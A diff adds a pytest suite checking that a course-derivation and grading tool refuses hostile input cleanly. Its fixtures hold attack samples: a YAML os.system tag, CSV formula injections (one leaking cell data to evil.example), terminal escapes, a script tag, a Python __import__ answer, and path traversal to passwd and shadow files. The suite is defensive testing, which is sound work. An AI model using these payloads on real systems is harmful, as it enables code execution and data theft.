@@ -1,0 +1,633 @@
+"""Hostile and broken input never takes the work down (issue 12).
+
+Every input here was reproduced as an attack or a careless mistake: YAML that
+recurses, numbers that do not fit, control characters, files that are not
+files, a class with one broken answers file, spreadsheet and terminal
+injection, course chapters outside the course, output paths that are devices,
+LaTeX that would loop or read files. Each must end in derive's own error
+(file, line, column; exit 2) or a complete result, never a traceback, never a
+hang, never code run. References are independent of the code under test: the
+exit codes and messages of the contract, a real spreadsheet rule (OWASP), a
+real LuaLaTeX and pdftotext, the process table, /proc.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import signal
+import stat
+import subprocess
+import sys
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+from conftest import IN_CI, ROOT, run_process
+
+SPEC = ROOT / "specs" / "two-layer-relu.yaml"
+TINY = """\
+kind: network
+title: {title}
+input: x
+output: y
+layers:
+  - {{units: 1, activation: relu, params: theta, pre: z, post: h}}
+  - {{units: 1, activation: identity, params: phi}}
+"""
+
+
+def _tool(name: str) -> bool:
+    if shutil.which(name):
+        return True
+    if IN_CI:
+        pytest.fail(f"{name} is required in CI")
+    pytest.skip(f"{name} is not installed")
+
+
+def _no_traceback(result) -> None:
+    text = (getattr(result, "stderr", "") or "") + (getattr(result, "output", "") or "")
+    assert "Traceback" not in text, text
+
+
+# --------------------------------------------------------------------------- the YAML loader
+
+
+def _load(text: str):
+    from derive.yamlload import load_text
+
+    return load_text(text, "s.yaml")
+
+
+def _refused(text: str):
+    from derive.errors import SpecError
+
+    with pytest.raises(SpecError) as info:
+        _load(text)
+    return info.value
+
+
+@pytest.mark.parametrize("text", [
+    "theta_11: " + "[" * 350 + "]" * 350,
+    "a: " + "{a: " * 400 + "1" + "}" * 400,
+    "student: " + "{a: " * 400 + "1" + "}" * 400,
+    "".join("  " * i + "- \n" for i in range(1000)) + "  " * 1000 + "- 1",
+    "x:\n" + "".join("  " * i + "- \n" for i in range(1, 200)),
+])
+def test_deep_nesting_is_refused_before_the_parser_recurses(text):
+    error = _refused(text)
+    assert "nested more than" in error.show() and error.location.line is not None
+
+
+@pytest.mark.parametrize("text, words", [
+    ("units: " + "9" * 5000, "a number of 5,000 characters"),
+    ("seed: " + "1" * 400, "a number of 400 characters"),
+    ("alpha: 0." + "1" * 400, "a number of"),
+    ("units: !!int abc", "!!int; expected a whole number"),
+    ("units: !!float abc", "!!float; expected a number"),
+    ("units: !!bool maybe", "!!bool; expected true or false"),
+    ("alpha: .nan", "not a finite number"),
+    ("alpha: .inf", "not a finite number"),
+    ("alpha: -.inf", "not a finite number"),
+    ('title: "a\\ud800b"', "U+D800"),
+    ('student: "Eve \\ud800"', "U+D800"),
+    ('title: "a\\eb"', "U+001B"),
+    ('title: "a\\0b"', "U+0000"),
+    ('title: "a\\x7fb"', "U+007F"),
+    ('title: "a\\u202eb"', "U+202E"),
+    ("title: a\x1bb", "U+001B"),
+    ("title: a\x7fb", "U+007F"),
+    ("title: a\u202eb", "U+202E"),
+    ("title: a\x9bb", "U+009B"),
+])
+def test_values_that_do_not_fit_are_located(text, words):
+    error = _refused(text)
+    assert words in error.show(), error.show()
+    assert error.location.line == 1 and error.location.column is not None
+
+
+def test_kind_that_is_not_a_word_is_refused_without_a_traceback(tmp_path):
+    from derive.errors import SpecError
+    from derive.pipeline import kind_of
+
+    for value in ("[network]", "{a: 1}", "3"):
+        with pytest.raises(SpecError, match="unknown kind"):
+            kind_of(_load(f"kind: {value}"))
+
+
+def test_special_files_are_not_read(tmp_path):
+    from derive.errors import SpecError
+    from derive.yamlload import load_file
+
+    zero = tmp_path / "zero.yaml"
+    zero.symlink_to("/dev/zero")
+    fifo = tmp_path / "fifo.yaml"
+    os.mkfifo(fifo)
+    started = time.monotonic()
+    for path in (zero, fifo, tmp_path):
+        with pytest.raises(SpecError, match="not a regular file"):
+            load_file(path)
+    assert time.monotonic() - started < 2  # the FIFO did not block
+
+
+def test_a_huge_sparse_file_is_refused_from_its_size_without_reading_it(tmp_path):
+    import resource
+
+    from derive.errors import SpecError
+    from derive.yamlload import load_file
+
+    path = tmp_path / "sparse.yaml"
+    with open(path, "wb") as f:
+        f.truncate(1_500_000_000)
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.raises(SpecError, match="specs are limited to 1,000,000"):
+        load_file(path)
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kB: nothing was read
+
+
+def test_answer_files_have_their_own_small_limit(tmp_path):
+    from derive.answers import read_sheet
+    from derive.errors import SpecError
+
+    path = tmp_path / "keys.yaml"
+    path.write_text("answers:\n" + "".join(f"  k{i}: a\n" for i in range(80_000)), encoding="utf-8")
+    started = time.monotonic()
+    with pytest.raises(SpecError, match="answer files are limited to"):
+        read_sheet(str(path))
+    assert time.monotonic() - started < 0.5
+
+
+def test_titles_are_bounded_and_typesettable():
+    from derive.errors import SpecError
+
+    for title, words in [("x" * 201, "at most 200"), ('"a 😀 b"', "U+1F600"), ('"中文"', "U+4E2D"),
+                         ('"مرحبا"', "U+0645")]:
+        with pytest.raises(SpecError) as info:
+            _load(f"title: {title}").title()
+        assert words in info.value.show()
+    assert _load('title: "Сеть — θ, ψ, φ: „ok” «да» ≤ ∑ → €"').title()
+
+
+# --------------------------------------------------------------------------- error messages do not echo files
+
+
+def test_error_messages_do_not_echo_a_file_that_is_not_a_spec(tmp_path, cli):
+    secret = "root:*:20228:0:99999:7:::"
+    for i, text in enumerate([f"{secret}: 1\n", f'{{"kind": "{secret}"}}\n', f"kind: network\nactivation: {secret}\n"]):
+        path = tmp_path / f"f{i}.yaml"
+        path.write_text(text, encoding="utf-8")
+        result = cli(path)
+        assert result.exit_code == 2 and "20228" not in result.output, result.output
+
+
+# --------------------------------------------------------------------------- derive check: a class with broken files
+
+
+GOOD_STUDENTS = 12
+
+
+@pytest.fixture(scope="module")
+def klass(tmp_path_factory):
+    """A folder of good answers files and hostile ones, as one class hands them in."""
+    from derive.check import Engine
+    from derive.printing import ascii
+
+    folder = tmp_path_factory.mktemp("class")
+    grader = Engine(str(SPEC)).grader(None)[0]
+    right = {k: ascii(e.unfolded) for k, e in grader.expected.items()}
+    good = []
+    for i in range(GOOD_STUDENTS):
+        path = folder / f"good{i:02}.yaml"
+        answers = dict(right) if i % 2 else dict(right, theta_11="x")
+        path.write_text(json.dumps({"student": f"S{i}", "answers": answers}), encoding="utf-8")
+        good.append(path)
+    bad = {
+        "deep.yaml": "answers:\n  theta_11: " + "[" * 350 + "]" * 350 + "\n",
+        "deepname.yaml": "student: " + "{a: " * 400 + "1" + "}" * 400 + "\nanswers: {}\n",
+        "digits.yaml": "student: " + "9" * 5000 + "\nanswers: {theta_11: x}\n",
+        "seed.yaml": "seed: " + "9" * 5000 + "\nanswers: {theta_11: x}\n",
+        "surrogate.yaml": 'student: "Eve \\ud800"\nanswers: {theta_11: x}\n',
+        "surrogate_answer.yaml": 'answers: {theta_11: "\\ud800x"}\n',
+        "esc.yaml": "student: Mallory\x1b[2J\nanswers: {theta_11: x}\n",
+        "binary.yaml": "answers: {theta_11: x}\n\x00\x01\x02",
+        "latin1.yaml": "student: J\xe9r\xf4me\n",
+        "notyaml.yaml": "answers: [unclosed\n",
+        "alias.yaml": "a: &x [1]\nanswers: *x\n",
+        "tag.yaml": "answers: !!python/object/apply:os.system [touch /tmp/pwned]\n",
+        "keys.yaml": "answers:\n" + "".join(f"  k{i}: a\n" for i in range(20_000)),
+    }
+    broken = []
+    for name, text in bad.items():
+        path = folder / name
+        path.write_bytes(text.encode("utf-8") if name != "latin1.yaml" else text.encode("latin-1"))
+        broken.append(path)
+    zero = folder / "zero.yaml"
+    zero.symlink_to("/dev/zero")
+    fifo = folder / "fifo.yaml"
+    os.mkfifo(fifo)
+    broken += [zero, fifo, folder / "missing.yaml"]
+    return good, broken
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json", "text"])
+def test_one_bad_file_is_that_files_error_line_and_the_class_report_is_complete(klass, fmt):
+    good, broken = klass
+    files = sorted(good + broken, key=lambda p: p.name)
+    started = time.monotonic()
+    result = run_process("check", SPEC, *files, "--format", fmt, "--jobs", "2", timeout=300)
+    assert time.monotonic() - started < 120
+    assert result.returncode == 2, result.stderr
+    _no_traceback(result)
+    errors = [line for line in result.stderr.splitlines() if line.startswith("derive: ")]
+    assert len(errors) == len(broken), result.stderr
+    for path in broken:
+        assert sum(path.name in line for line in errors) == 1, (path.name, errors)
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(result.stdout)))
+        assert [Path(r["file"]).name for r in rows] == [p.name for p in sorted(good, key=lambda p: p.name)]
+        assert {r["score"] for r in rows} == {"12", "13"}
+    elif fmt == "json":
+        items = json.loads(result.stdout)
+        assert len(items) == len(files)
+        assert sum("error" in item for item in items) == len(broken)
+        assert sum(item.get("total") == 13 for item in items) == GOOD_STUDENTS
+    else:
+        assert result.stdout.count(" of 13 correct") == GOOD_STUDENTS
+        assert f"({GOOD_STUDENTS} students)" in result.stdout
+
+
+def test_the_batch_does_not_depend_on_the_number_of_workers(klass):
+    good, broken = klass
+    files = sorted(good + broken[:6], key=lambda p: p.name)
+    one = run_process("check", SPEC, *files, "--format", "json", "--jobs", "1", timeout=300)
+    two = run_process("check", SPEC, *files, "--format", "json", "--jobs", "2", timeout=300)
+    assert one.returncode == two.returncode == 2
+    assert one.stdout == two.stdout
+
+
+# --------------------------------------------------------------------------- output channels
+
+
+def _sheet(path: Path, student: str, answers: dict | None = None) -> Path:
+    path.write_text(json.dumps({"student": student, "answers": answers or {"theta_11": "x"}}), encoding="utf-8")
+    return path
+
+
+CSV_ATTACKS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+def test_csv_cells_never_start_a_formula(tmp_path, cli, monkeypatch):
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR is prefixed with an apostrophe."""
+    monkeypatch.chdir(tmp_path)
+    files = [_sheet(Path(f"s{i}.yaml"), name) for i, name in enumerate(CSV_ATTACKS)]
+    files += [_sheet(Path(name), "Alice") for name in ("=cmd.yaml", "+x.yaml", "-y.yaml", "@z.yaml", "\t=t.yaml")]
+    result = cli("check", "--format", "csv", "--", SPEC, *files)
+    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
+    assert len(rows) == len(files), result.output
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert sorted(row[1] for row in rows) == sorted(["'" + a for a in CSV_ATTACKS] + ["Alice"] * 5)
+    assert {row[0] for row in rows} >= {"'=cmd.yaml", "'+x.yaml", "'-y.yaml", "'@z.yaml"}
+
+
+def test_a_carriage_return_never_reaches_a_report(tmp_path, cli):
+    result = cli("check", SPEC, _sheet(tmp_path / "cr.yaml", "\r=1+1"))
+    assert result.exit_code == 2 and "U+000D" in result.output
+
+
+def test_the_terminal_sees_control_characters_escaped(tmp_path, cli):
+    forged = _sheet(tmp_path / "a.yaml", "Eve\nFAKE LINE: Carol: 13 of 13 correct")
+    odd = _sheet(tmp_path / "b\x1b]0;owned\x07\u202e.yaml", "Bob")
+    other = _sheet(tmp_path / "c.yaml", "Carol")
+    result = cli("check", SPEC, forged, odd, other)
+    text = result.output
+    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
+    assert "\\x1b]0;owned\\x07\\u202e" in text
+    assert not any(line.startswith("FAKE LINE") for line in text.splitlines())
+    assert "Eve\\nFAKE LINE" in text
+
+
+def test_error_lines_escape_file_names(tmp_path, cli):
+    bad = tmp_path / "x\x1b[2J\nFAKE: ok.yaml"
+    bad.write_text("answers: [", encoding="utf-8")
+    result = cli("check", SPEC, bad, _sheet(tmp_path / "g.yaml", "G"))
+    assert result.exit_code == 2
+    assert "\x1b" not in result.output and "\\x1b[2J\\nFAKE: ok.yaml" in result.output
+
+
+def test_terminal_and_csv_escapes():
+    from derive.safetext import csv_cell, message, terminal
+
+    assert terminal("a\x1b[2Jb\x00c\x7f\u202ed\ud800\n") == "a\\x1b[2Jb\\x00c\\x7f\\u202ed\\ud800\\n"
+    assert message("line 1\nline\t2\x1b") == "line 1\nline\t2\\x1b"
+    assert [csv_cell(c) for c in ("=1", "+1", "-1", "@A", "\t1", "\r1", "ok", 3)] == \
+        ["'=1", "'+1", "'-1", "'@A", "'\t1", "'\r1", "ok", 3]
+
+
+def test_the_quiz_sheet_escapes_the_title(tmp_path, cli):
+    spec = tmp_path / "q.yaml"
+    spec.write_text(TINY.format(title='"<script>alert(1)</script> # head $x$ *em*"'), encoding="utf-8")
+    result = cli("quiz", spec, "-o", tmp_path / "out")
+    assert result.exit_code == 0, result.output
+    from markdown_it import MarkdownIt
+
+    sheet = (tmp_path / "out" / "q.md").read_text(encoding="utf-8")
+    tokens = MarkdownIt("commonmark").parse(sheet)
+    assert not any(t.type.startswith("html") for t in tokens)
+    assert sum(t.type == "heading_open" and t.tag == "h1" for t in tokens) == 1
+    rendered = MarkdownIt("commonmark").render(sheet)
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; # head $x$ *em*" in rendered
+
+
+# --------------------------------------------------------------------------- course chapters
+
+
+def _course(folder: Path, chapter: str) -> Path:
+    course = folder / "course.yaml"
+    course.write_text(f"kind: course\ntitle: C\nchapters:\n  - {json.dumps(chapter)}\n", encoding="utf-8")
+    return course
+
+
+@pytest.fixture
+def private(tmp_path):
+    outside = tmp_path / "private"
+    outside.mkdir()
+    exam = outside / "exam.yaml"
+    exam.write_text(TINY.format(title="SECRET-EXAM"), encoding="utf-8")
+    secret = outside / "shadow"
+    secret.write_text("root:*:20228:0:99999:7:::\n", encoding="utf-8")
+    course = tmp_path / "course"
+    course.mkdir()
+    (course / "intro.yaml").write_text(TINY.format(title="Intro"), encoding="utf-8")
+    (course / "link.yaml").symlink_to(exam)
+    (course / "shadow.yaml").symlink_to(secret)
+    return course, exam, secret
+
+
+@pytest.mark.parametrize("chapter", ["../private/exam.yaml", "ABS_EXAM", "ABS_SHADOW", "link.yaml", "shadow.yaml",
+                                     "/etc/passwd", "sub/../../private/exam.yaml", "../private/shadow"])
+def test_chapters_stay_inside_the_course_folder(private, cli, chapter):
+    course, exam, secret = private
+    chapter = {"ABS_EXAM": str(exam), "ABS_SHADOW": str(secret)}.get(chapter, chapter)
+    result = cli(_course(course, chapter), "--format", "json")
+    assert result.exit_code == 2, result.output
+    assert "SECRET-EXAM" not in result.output and "20228" not in result.output and "root:" not in result.output
+    assert "course.yaml:4:" in result.output
+
+
+def test_a_chapter_inside_the_folder_still_builds(private, cli):
+    course, _, _ = private
+    result = cli(_course(course, "intro.yaml"), "--format", "json")
+    assert result.exit_code == 0, result.output
+    assert json.loads(result.output)["chapters"][0]["derivation"]["kind"] == "network"
+
+
+def test_build_skips_links_out_of_its_folders(private, tmp_path):
+    course, _, _ = private
+    (course / "course.yaml").unlink(missing_ok=True)
+    result = run_process("build", course, "--format", "json", "--lang", "en", "--out", tmp_path / "out")
+    _no_traceback(result)
+    assert "SECRET" not in result.stderr and "20228" not in result.stderr
+    assert "link.yaml: it links to a file outside" in result.stderr
+    assert not (tmp_path / "out" / "en" / "link.json").exists()
+    assert (tmp_path / "out" / "en" / "intro.json").is_file()
+
+
+# --------------------------------------------------------------------------- writing files
+
+
+def test_output_onto_special_files_and_missing_folders_is_refused(tmp_path, cli):
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    for target, words in [("/dev/null", "not a regular file"), (fifo, "not a regular file"),
+                          (tmp_path, "is a directory"), (tmp_path / "missing" / "dir" / "out.json", "does not exist")]:
+        for fmt in ("json", "tex", "md"):
+            result = cli(SPEC, "--format", fmt, "--no-figures", "-o", target)
+            assert result.exit_code == 2 and words in result.output, (target, fmt, result.output)
+    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
+
+
+def test_a_planted_link_is_never_followed(tmp_path, cli):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious", encoding="utf-8")
+    out = tmp_path / "notes.md"
+    for name in (".notes.svg.part", ".notes.md.part", f"notes.md.tmp{os.getpid()}", ".notes.md.1.part"):
+        (tmp_path / name).symlink_to(victim)
+    result = cli(SPEC, "-o", out)
+    assert result.exit_code == 0, result.output
+    assert victim.read_text(encoding="utf-8") == "precious"
+    assert out.read_text(encoding="utf-8").startswith("# ")
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part") and not p.is_symlink()]
+
+
+def test_write_file_replaces_atomically_with_unpredictable_names(tmp_path, monkeypatch):
+    from derive import safewrite
+
+    names = []
+    real = safewrite.tempfile.mkstemp
+
+    def spy(**kwargs):
+        fd, name = real(**kwargs)
+        names.append(name)
+        return fd, name
+
+    monkeypatch.setattr(safewrite.tempfile, "mkstemp", spy)
+    for _ in range(2):
+        safewrite.write_file(tmp_path / "a.txt", "x")
+    assert len(set(names)) == 2 and all(Path(n).parent == tmp_path for n in names)
+    assert (tmp_path / "a.txt").read_text() == "x"
+
+
+@pytest.fixture
+def read_only(tmp_path):
+    """A read-only folder: a read-only tmpfs when root can mount one, else a folder without write permission."""
+    folder = tmp_path / "ro"
+    folder.mkdir()
+    if os.geteuid() == 0:
+        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(folder)],
+                                 capture_output=True)
+        if mounted.returncode != 0:
+            pytest.skip("root, but cannot mount a read-only tmpfs here")
+        yield folder
+        subprocess.run(["umount", str(folder)], capture_output=True)
+        return
+    folder.chmod(0o555)
+    yield folder
+    folder.chmod(0o755)
+
+
+def test_a_read_only_file_system_is_a_clear_error(read_only, cli):
+    result = cli(SPEC, "--format", "json", "-o", read_only / "out.json")
+    assert result.exit_code == 2 and "cannot write the file" in result.output, result.output
+    result = run_process("build", SPEC, "--format", "json,md", "--lang", "en,ru", "--out", read_only / "out")
+    _no_traceback(result)
+    assert result.returncode == 2
+    job_errors = [line for line in result.stderr.splitlines() if line.startswith("derive build: ") and "out/" in line]
+    assert len(job_errors) >= 4, result.stderr
+    assert "0 built" in result.stderr and "4 failed" in result.stderr
+
+
+def test_build_refuses_two_specs_with_one_output(tmp_path):
+    for week in ("week1", "week2"):
+        (tmp_path / week).mkdir()
+        (tmp_path / week / "intro.yaml").write_text(TINY.format(title=week), encoding="utf-8")
+    result = run_process("build", tmp_path, "--format", "md", "--lang", "en", "--out", tmp_path / "out")
+    assert result.returncode == 2
+    assert "week1/intro.yaml and" in result.stderr and "week2/intro.yaml would both be written" in result.stderr
+    assert not (tmp_path / "out" / "en" / "intro.md").exists()
+
+
+# --------------------------------------------------------------------------- budgets: time and memory
+
+
+X_TOWER = "kind: graph\nnodes:\n  f: x^x^x\noutput: f\nvalues: {x: 9}\n"
+
+
+def test_a_derivation_over_its_cpu_budget_ends_with_a_clear_message(tmp_path):
+    spec = tmp_path / "tower.yaml"
+    spec.write_text(X_TOWER, encoding="utf-8")
+    env = dict(os.environ, DERIVE_CPU_SECONDS="3")
+    started = time.monotonic()
+    result = subprocess.run([sys.executable, "-m", "derive", str(spec), "--format", "json"], capture_output=True,
+                            text=True, env=env, timeout=120, cwd=ROOT)
+    assert time.monotonic() - started < 60
+    assert result.returncode == 2, result.stderr
+    assert "CPU time" in result.stderr and "make it smaller" in result.stderr
+    _no_traceback(result)
+
+
+def test_bounded_items_fail_alone():
+    from derive.bounded import Limits, map_bounded
+
+    def work(x):
+        if x == "loop":
+            while True:
+                pass
+        if x == "memory":
+            return len(bytearray(2**31))
+        if x == "bug":
+            raise ZeroDivisionError("oops")
+        return x * 2
+
+    items = ["a", "loop", "b", "memory", "c", "bug", "d"]
+    out = map_bounded(work, items, jobs=2, limits=Limits(1, 1024 * 2**20), groups=lambda x: 0)
+    assert [o.value for o in out] == ["aa", None, "bb", None, "cc", None, "dd"]
+    assert "CPU time" in out[1].error and out[1].exit_code == 2 and out[1].exceeded
+    assert "memory" in out[3].error and out[3].exceeded
+    assert "bug in derive" in out[5].error and out[5].exit_code == 1 and not out[5].exceeded
+
+
+def test_answer_checks_are_timed_in_cpu_time_not_wall_time():
+    """A busy machine slows the wall clock, not a process's CPU time: sleeping is not work."""
+    from derive.grading import _Timeout, time_limit
+
+    with time_limit(0.2):
+        time.sleep(0.5)
+    with pytest.raises(_Timeout):
+        with time_limit(0.2):
+            while True:
+                pass
+
+
+def test_the_verdict_on_a_deep_answer_is_decided_by_a_bound_not_a_clock(monkeypatch):
+    import derive.grading as grading
+    from derive.check import Engine
+
+    grader = Engine(str(SPEC)).grader(None)[0]
+    deep = "tanh(" * 8 + "x" + ")" * 8
+    verdicts = []
+    for limit in (1.0, 1000.0):
+        monkeypatch.setattr(grading, "TIME_LIMIT", limit)
+        grader.memo.clear()
+        verdicts.append(grader.check("theta_11", deep))
+    assert [v.verdict for v in verdicts] == ["invalid", "invalid"]
+    assert [v.findings[0].code for v in verdicts] == ["parse.functions_nested"] * 2
+    assert grader.check("theta_11", "tanh(" * 6 + "x" + ")" * 6).verdict == "incorrect"
+
+
+def test_check_answers_for_the_web_is_bounded_and_complete():
+    from derive.bounded import check_answers
+
+    out = check_answers(str(SPEC), {"theta_11": "[" * 5000, "phi_1": "g_1", "psi_11": "tanh(" * 9 + "x" + ")" * 9,
+                                    "phi_0": "__import__('os').system('id')"}, lang="ru")
+    verdicts = {a["key"]: a["verdict"] for a in out["answers"]}
+    assert out["total"] == 13 and len(verdicts) == 13
+    assert verdicts["theta_11"] == verdicts["psi_11"] == verdicts["phi_0"] == "invalid"
+    assert verdicts["phi_1"] == "correct"
+    assert all(a["feedback"] for a in out["answers"] if a["verdict"] == "invalid")
+
+
+def _descendants_with(marker: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            environ = (entry / "environ").read_bytes()
+        except OSError:
+            continue
+        if marker.encode() in environ:
+            found.append(int(entry.name))
+    return found
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
+def test_a_killed_build_leaves_no_orphans(tmp_path):
+    for i in range(2):
+        (tmp_path / f"t{i}.yaml").write_text(X_TOWER, encoding="utf-8")
+    marker = f"DERIVE_ORPHAN_TEST={uuid.uuid4().hex}"
+    env = dict(os.environ, DERIVE_ORPHAN_TEST=marker.split("=")[1])
+    proc = subprocess.Popen([sys.executable, "-m", "derive", "build", str(tmp_path), "--format", "json",
+                             "--lang", "en,ru", "--jobs", "2", "--out", str(tmp_path / "out")],
+                            env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 60
+    while len(_descendants_with(marker)) < 3 and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert len(_descendants_with(marker)) >= 3  # derive, its command child, workers
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    deadline = time.monotonic() + 10
+    while _descendants_with(marker) and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert _descendants_with(marker) == []
+
+
+# --------------------------------------------------------------------------- input at fault, not a bug in derive
+
+
+def test_a_huge_slope_is_the_specs_fault(tmp_path, cli):
+    spec = tmp_path / "a.yaml"
+    spec.write_text(TINY.format(title="t").replace("activation: relu", "activation: leaky_relu, alpha: 1.0e+300"),
+                    encoding="utf-8")
+    result = cli(spec, "--format", "json")
+    assert result.exit_code == 2 and "bug" not in result.output and "a.yaml:6:" in result.output
+
+
+def test_lost_precision_is_not_called_a_bug(tmp_path, cli):
+    spec = tmp_path / "chain.yaml"
+    nodes = ["  n1: x*x + x"] + [f"  n{i}: n{i - 1}*n{i - 1} + x" for i in range(2, 41)]
+    spec.write_text("kind: graph\nnodes:\n" + "\n".join(nodes) + "\noutput: n40\n", encoding="utf-8")
+    result = cli(spec, "--format", "json")
+    assert result.exit_code in (0, 2), result.output
+    assert "bug in derive" not in result.output
+
+
+def test_a_layer_too_wide_to_typeset_is_refused_before_latex(tmp_path, cli):
+    spec = tmp_path / "wide.yaml"
+    spec.write_text(TINY.format(title="w").replace("units: 1, activation: relu", "units: 256, activation: relu"),
+                    encoding="utf-8")
+    result = cli(spec, "--format", "tex")
+    assert result.exit_code == 2 and "256 units" in result.output and "view: vector" in result.output
+    assert cli(spec, "--format", "json").exit_code == 0
